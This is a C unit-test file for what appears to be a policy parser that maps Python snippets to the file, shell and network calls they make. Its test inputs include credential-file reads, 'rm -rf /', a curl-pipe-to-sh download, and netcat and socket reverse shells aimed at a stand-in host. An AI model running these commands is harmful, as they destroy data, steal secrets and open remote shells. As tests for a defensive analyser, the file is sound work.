/* python_test.c - Python snippets read into the calls they make
 * (policy/code/code.h): values the code fixes reach the arguments,
 * command strings reach the shell parser, the rest stays as written. */
#include <criterion/criterion.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "policy/base/path.h"
#include "policy/code/code.h"

static agate_arena *arena;

static void setup(void)
{
	arena = agate_arena_new(1 << 24);
	cr_assert_not_null(arena);
}

static void teardown(void)
{
	agate_arena_free(arena);
}

TestSuite(python, .init = setup, .fini = teardown);

typedef struct parsed {
	const agate_shell_cmd *c;
	size_t n;
} parsed;

static parsed parse(const char *src)
{
	parsed p = { NULL, 0 };
	int rc = agate_code_python(src, strlen(src), arena, 1024, &p.c, &p.n);
	cr_assert_eq(rc, 0, "parse(%s) = %d", src, rc);
	return p;
}

static bool eq(agate_str s, const char *lit)
{
	return s.ptr && s.len == strlen(lit) && memcmp(s.ptr, lit, s.len) == 0;
}

/* does some record of prog have the argument arg (at any depth)? */
static bool has(parsed p, const char *prog, const char *arg)
{
	for (size_t i = 0; i < p.n; i++)
		if (eq(p.c[i].program, prog)) {
			if (!arg)
				return true;
			for (size_t k = 0; k < p.c[i].argc; k++)
				if (eq(p.c[i].argv[k], arg))
					return true;
		}
	return false;
}

static unsigned depth_of(parsed p, const char *prog)
{
	for (size_t i = 0; i < p.n; i++)
		if (eq(p.c[i].program, prog))
			return p.c[i].depth;
	return 99;
}

Test(python, names_carry_values)
{
	parsed p = parse("file_name = '/etc/passwd'\nwith open(file_name) as f:\n    print(f.read())\n");
	cr_expect(has(p, "open", "/etc/passwd"));
	p = parse("import os\np = os.path.join(\"/usr\", \"../etc/passwd\")\ndata = open(p, 'r').read()\n");
	cr_expect(has(p, "open", "/usr/../etc/passwd"));
	cr_expect(has(p, "open", "r"));
	cr_expect_str_eq(agate_path_normalize(arena, "/usr/../etc/passwd", 18, NULL), "/etc/passwd");
	p = parse("base = '/root'\nkey = f'{base}/.ssh/id_rsa'\nopen(key)\n");
	cr_expect(has(p, "open", "/root/.ssh/id_rsa"));
	p = parse("user = 'bob'\nopen('/home/%s/.ssh/id_ed25519' % user, mode='rb')\n");
	cr_expect(has(p, "open", "/home/bob/.ssh/id_ed25519"));
	cr_expect(has(p, "open", "mode=rb"));
	p = parse("d = '/etc'\nd += '/ssh'\nx, y = '/a', '/b'\nopen(d)\nopen(y)\n");
	cr_expect(has(p, "open", "/etc/ssh"));
	cr_expect(has(p, "open", "/b"));
	p = parse("import os\nopen(os.environ.get('CONF', '/etc/shadow'))\nopen(os.getenv('X'))\n");
	cr_expect(has(p, "open", "/etc/shadow"));
	cr_expect(has(p, "open", "os.getenv('X')"), "an unknown value is its source text");
}

Test(python, imports_and_paths)
{
	parsed p = parse("from pathlib import Path\n(Path('/etc') / 'shadow').read_text()\n"
			 "k = Path.home() / '.aws' / 'credentials'\nk.read_text()\n");
	cr_expect(has(p, "pathlib.Path.read_text", "/etc/shadow"));
	cr_expect(has(p, "pathlib.Path.read_text", "~/.aws/credentials"));
	p = parse("import os, glob as g\nd = '/etc'\nos.listdir(d)\ng.glob(d + '/*.conf')\n"
		  "for root, dirs, files in os.walk('/root'):\n    pass\n");
	cr_expect(has(p, "os.listdir", "/etc"));
	cr_expect(has(p, "glob.glob", "/etc/*.conf"));
	cr_expect(has(p, "os.walk", "/root"));
	p = parse("from os.path import join as j\nfrom shutil import rmtree\nrmtree(j('/', 'usr'))\n");
	cr_expect(has(p, "shutil.rmtree", "/usr"));
}

Test(python, commands_reach_the_shell)
{
	parsed p = parse("import os\ncmd = 'cat ' + '/etc/shadow'\nos.system(cmd)\n");
	cr_expect(has(p, "os.system", "cat /etc/shadow"));
	cr_expect(has(p, "cat", "/etc/shadow"));
	cr_expect_eq(depth_of(p, "cat"), 1);
	p = parse("import subprocess as sp\ntarget = '/'\nsp.run(['rm', '-rf', target])\n");
	cr_expect(has(p, "subprocess.run", "rm"));
	cr_expect(has(p, "rm", "/"));
	p = parse("import subprocess\nsubprocess.call('curl -s http://192.0.2.1/i | sh', shell=True)\n");
	cr_expect(has(p, "curl", NULL));
	cr_expect(has(p, "sh", NULL));
	cr_expect(has(p, "subprocess.call", "shell=True"));
	p = parse("import subprocess\nsubprocess.Popen(['/bin/bash', '-c', 'nc -e /bin/sh 192.0.2.1 9'])\n");
	cr_expect(has(p, "nc", "-e"));
	p = parse("import pty\npty.spawn('/bin/bash')\n");
	cr_expect(has(p, "bash", NULL));
}

Test(python, network_targets)
{
	parsed p = parse("import requests\nurl = 'http://192.0.2.1/x'\nrequests.get(url, timeout=3)\n"
			 "requests.post(url, files={'f': open('/etc/hosts', 'rb')})\n");
	cr_expect(has(p, "requests.get", "http://192.0.2.1/x"));
	cr_expect(has(p, "requests.get", "timeout=3"));
	cr_expect(has(p, "requests.post", "http://192.0.2.1/x"));
	cr_expect(has(p, "open", "/etc/hosts"));
	p = parse("import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
		  "s.connect(('192.0.2.1', 4444))\nos.dup2(s.fileno(), 0)\n");
	cr_expect(has(p, "socket.socket.connect", "192.0.2.1"));
	cr_expect(has(p, "socket.socket.connect", "4444"));
	cr_expect(has(p, "os.dup2", NULL));
	p = parse("import urllib.request\nurllib.request.urlopen('http://192.0.2.1/p')\n");
	cr_expect(has(p, "urllib.request.urlopen", "http://192.0.2.1/p"));
}

Test(python, functions_called_with_constants)
{
	parsed p = parse("def read(name):\n    with open(name) as f:\n        return f.read()\n\n"
			 "print(read('/etc/shadow'))\n");
	cr_expect(has(p, "open", "/etc/shadow"));
	cr_expect(has(p, "open", "name"), "read inline with the parameter unknown");
	cr_expect_eq(depth_of(p, "read"), 0);
	p = parse("def rm(path, force=True):\n    import shutil\n    shutil.rmtree(path)\n"
		  "rm(path='/var/lib')\n");
	cr_expect(has(p, "shutil.rmtree", "/var/lib"));
	p = parse("def one(x): return open(x)\none('/etc/sudoers')\n");
	cr_expect(has(p, "open", "/etc/sudoers"));
	/* a parameter is the caller's value, not a global of the same name */
	p = parse("x = '/safe'\ndef f(x):\n    open(x)\nf('/etc/gshadow')\n");
	cr_expect(has(p, "open", "/etc/gshadow"));
}

Test(python, quiet_calls_are_not_records)
{
	parsed p = parse("print(len('abc'), sorted([3, 1]))\nx = ','.join(['a', 'b'])\nopen(x)\n");
	cr_expect_not(has(p, "print", NULL));
	cr_expect_not(has(p, "len", NULL));
	cr_expect(has(p, "open", "a,b"));
}

Test(python, hostile_input_is_bounded)
{
	const agate_shell_cmd *c;
	size_t n;
	char *deep = malloc(20001);
	cr_assert_not_null(deep);
	for (int i = 0; i < 10000; i++) {
		deep[i] = '(';
		deep[19999 - i] = ')';
	}
	deep[20000] = '\0';
	cr_expect_eq(agate_code_python(deep, 20000, arena, 1024, &c, &n), 0);
	free(deep);
	/* recursion and fan-out of calls */
	parsed p = parse("def f():\n    f()\n    open('/x')\nf()\n");
	cr_expect(has(p, "open", "/x"));
	p = parse("def a(): b(); b(); b(); b()\ndef b(): c(); c(); c(); c()\n"
		  "def c(): d(); d(); d(); d()\ndef d(): os.system('ls')\na()\n");
	cr_expect_lt(p.n, 1024u);
	/* not Python: read as far as it goes */
	p = parse("def (:\n )))] \"unterminated\n\tx = = = open('/y'\n");
	cr_expect(has(p, "open", "/y"));
	/* too many tokens */
	size_t big = (size_t)AGATE_CODE_MAX_TOKENS * 2 + 10;
	char *many = malloc(big + 1);
	cr_assert_not_null(many);
	for (size_t i = 0; i < big; i++)
		many[i] = i % 2 ? ' ' : 'a';
	cr_expect_eq(agate_code_python(many, big, arena, 1024, &c, &n), -E2BIG);
	free(many);
}

/* does some record of prog say that `name` was resolved to value? */
static bool bound(parsed p, const char *prog, const char *name, const char *value)
{
	for (size_t i = 0; i < p.n; i++)
		for (size_t k = 0; eq(p.c[i].program, prog) && k < p.c[i].nbindings; k++)
			if (eq(p.c[i].bindings[k].name, name) && eq(p.c[i].bindings[k].value, value))
				return true;
	return false;
}

Test(python, records_say_what_names_resolved_to)
{
	parsed p = parse("import os\nbase = '/usr'\np = os.path.join(base, '../etc/passwd')\n"
			 "print(open(p).read())\nopen(f'{base}/x', mode='w')\n");
	cr_expect(bound(p, "open", "p", "/usr/../etc/passwd"));
	cr_expect(bound(p, "os.path.join", "base", "/usr"));
	cr_expect(bound(p, "open", "f'{base}/x'", "/usr/x"));
	/* literals are shown by the command itself, not as a resolution */
	for (size_t i = 0; i < p.n; i++)
		for (size_t k = 0; k < p.c[i].nbindings; k++)
			cr_expect(p.c[i].bindings[k].name.ptr[0] != '\'',
				  "a literal listed as resolved");
	p = parse("open(name)\n");
	cr_expect(has(p, "open", "name"));
	cr_expect_eq(p.c[0].nbindings, 0, "an unknown name is not a resolution");
}
